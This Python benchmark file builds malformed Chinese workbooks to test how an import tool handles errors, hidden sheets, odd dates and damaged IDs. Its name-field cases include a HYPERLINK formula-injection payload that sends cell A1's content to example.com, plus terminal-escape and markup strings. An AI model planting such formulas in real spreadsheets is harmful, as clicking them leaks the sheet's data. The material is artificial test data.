"""Workbooks that are sound as files and hold cells, sheets or names that mislead."""

from __future__ import annotations

import re
from collections.abc import Callable
from datetime import date
from pathlib import Path

import xlsxwriter

from benchmarks import folders
from benchmarks.cases import (
    REFUSED,
    ROWS,
    SAME,
    SHEET,
    TOLD,
    Case,
    contracts,
    members,
    packed,
    rewritten,
    spoiled,
)
from fdsign.synthetic.tables import Cell, Row, Sheet, as_text
from fdsign.synthetic.workbooks import write_workbook

BAD = (5, 17, 290)
"""The rows that are damaged where some are, as the sheet numbers them."""

_FORMULA = '=HYPERLINK("http://example.com/"&A1,"测甲")'


def _cell(column: str, written: str) -> Callable[[Path], Path]:
    """The cells of the damaged rows in a column, written another way (``{at}``: the address)."""

    def change(xml: bytes) -> bytes:
        for row in BAD:
            at = f"{column}{row}"
            new = written.replace("{at}", at).encode()
            xml = re.sub(rb'<c r="%s"[^>]*>.*?</c>' % at.encode(), lambda _m, n=new: n, xml)
        return xml

    return rewritten(SHEET, change)


def _put(heading: str, cell: Cell) -> Callable[[Path], Path]:
    return spoiled(lambda rows: folders.put(rows, heading, BAD, cell))


def _every(heading: str, change: Callable[[Cell], Cell]) -> Callable[[Path], Path]:
    def spoil(rows: list[Row]) -> None:
        at = folders.column(rows, heading)
        for row in rows[1:]:
            row[at] = change(row[at])

    return spoiled(spoil)


def _repeated_heading(rows: list[Row]) -> None:
    """A second 签约日期 with other dates."""
    for number, row in enumerate(rows):
        row.append(date(2014, 1, 1) if number else "签约日期")


def _hidden_rows(xml: bytes) -> bytes:
    return re.sub(rb'(<row r="[2-9]\d")', rb'\1 hidden="1"', xml)


def _sheets(sheets: Callable[[list[Row]], list[Sheet]]) -> Callable[[Path], Path]:
    return lambda folder: write_workbook(
        folder / folders.CONTRACTS, sheets(contracts()), folders.PRINTED
    )


def _hidden_sheet(folder: Path) -> Path:
    """The list stands on a hidden sheet behind a note."""
    note = Sheet("说明", [], [["本表由系统导出"]])
    listed = Sheet("签约明细", [contracts()[0]], contracts()[1:])
    path = write_workbook(folder / folders.CONTRACTS, [note, listed], folders.PRINTED)
    parts = members(path)
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(
        b'sheetId="2"', b'sheetId="2" state="hidden"'
    )
    return packed(path, parts)


def _since_1904(folder: Path) -> Path:
    path = folder / folders.CONTRACTS
    with xlsxwriter.Workbook(str(path), {"date_1904": True}) as book:
        day = book.add_format({"num_format": "yyyy-mm-dd"})
        page = book.add_worksheet("签约明细")
        for i, row in enumerate(contracts()):
            for j, cell in enumerate(row):
                if isinstance(cell, date):
                    page.write_datetime(i, j, cell, day)
                elif cell is not None:
                    page.write_string(i, j, as_text(cell))
    return path


def _full(folder: Path) -> Path:
    """Visits on exactly the 65,536 rows that old workbooks end with."""
    rows = folders.sound()[folders.VISITS]
    many = [rows[0], *(rows[1 + n % (len(rows) - 1)] for n in range(65_535))]
    (folder / folders.VISITS).unlink()
    return folders.write_table(folder / "门诊就诊.xlsx", many)


_UNCACHED = '<c r="{at}"><f>IF(1,"a","b")</f></c>'
_ERROR = '<c r="{at}" t="e"><v>#N/A</v></c>'
_QUIET = (SAME,)

CASES = (
    Case("error-id", "#N/A in three ID cells", _cell("A", _ERROR), (ROWS,), BAD),
    Case("error-date", "#N/A in three dates", _cell("D", _ERROR), (ROWS,), BAD),
    Case("uncached-id", "three IDs are formulas without a value",
         _cell("A", _UNCACHED), (ROWS,), BAD),
    Case("numeric-id", "three IDs stored as numbers", _put("身份证号", 999999194910173370),
         (ROWS,), BAD),
    Case("numeric-ids", "every ID stored as a number",
         _every("身份证号", lambda cell: float(str(cell).replace("X", "0"))), (ROWS, REFUSED),
         tuple(range(2, len(contracts()) + 1))),
    Case("true-id", "three ID cells say TRUE", _cell("A", '<c r="{at}" t="b"><v>1</v></c>'),
         (ROWS,), BAD),
    Case("two-digit-years", "three dates like 16-03-01", _put("签约日期", "16-03-01"),
         (ROWS,), BAD),
    Case("day-first", "three dates like 01/03/2016", _put("签约日期", "01/03/2016"), (ROWS,), BAD),
    Case("year-9999", "three dates far in the future", _put("签约日期", "2916-03-01"),
         (ROWS,), BAD),
    Case("unknown-status", "three unknown status words", _put("签约状态", "处理中"), (ROWS,), BAD),
    Case("dates-as-text", "dates in full width, every one",
         _every("签约日期", lambda cell: as_text(cell).translate(
             {ord("0") + n: ord("０") + n for n in range(10)})), _QUIET),
    Case("invisible-signs", "blanks nobody sees around every ID",
         _every("身份证号", lambda cell: f"\u200b\xa0{cell}\t"), _QUIET),
    Case("formula-names", "names that are formulas", _put("姓名", _FORMULA), _QUIET),
    Case("markup-names", "names that are markup", _put("姓名", "[b][link=x]测[/b]"), _QUIET),
    Case("control-names", "names with control characters", _put("姓名", "\x1b[31m测\x07"), _QUIET),
    Case("null-names", "names like null, NA, None", _put("姓名", "NA"), _QUIET),
    Case("two-headings", "签约日期 stands twice, with other dates",
         spoiled(_repeated_heading), (SAME, REFUSED)),
    Case("no-id-heading", "the ID column has no heading",
         spoiled(lambda rows: folders.put(rows, "身份证号", (1,), None)), (REFUSED,)),
    Case("repeated-headings", "the heading again in the middle of the list",
         spoiled(lambda rows: rows.insert(100, list(rows[0]))), _QUIET),
    Case("hidden-rows", "80 rows hidden by a filter", rewritten(SHEET, _hidden_rows), _QUIET),
    Case("hidden-sheet", "the list stands on a hidden sheet", _hidden_sheet, _QUIET),
    Case("two-sheets", "the list cut over two sheets, each with its heading",
         _sheets(lambda rows: [Sheet("一", [rows[0]], rows[1:120]),
                               Sheet("二", [rows[0]], rows[120:])]), _QUIET),
    Case("empty-sheets", "100 empty sheets before the list",
         _sheets(lambda rows: [*(Sheet(f"空{n}", [], []) for n in range(100)),
                               Sheet("表", [rows[0]], rows[1:])]), _QUIET),
    Case("since-1904", "dates counted from 1904", _since_1904, _QUIET),
    Case("row-limit", "visits on exactly 65,536 rows", _full, (f"{TOLD}sheet-row-limit",)),
)  # fmt: skip
